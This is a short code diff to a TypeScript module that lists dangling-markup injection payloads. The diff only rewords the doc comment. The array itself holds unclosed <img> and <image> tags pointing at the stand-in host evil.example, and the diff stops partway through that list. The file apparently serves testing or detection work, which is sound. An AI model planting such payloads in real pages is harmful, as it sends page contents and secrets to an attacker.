@@ -1,4 +1,4 @@
-/** Markup left open to swallow what follows, and addresses that are asked for the moment they are seen. */
+/** Unclosed markup that swallows the rest of the page (dangling markup), and URLs that browsers load at once. */
 export const unclosed: readonly string[] = [
   "<img src='https://evil.example/?",
   '<img src="//evil.example/?\n<image src="//evil.example/?',
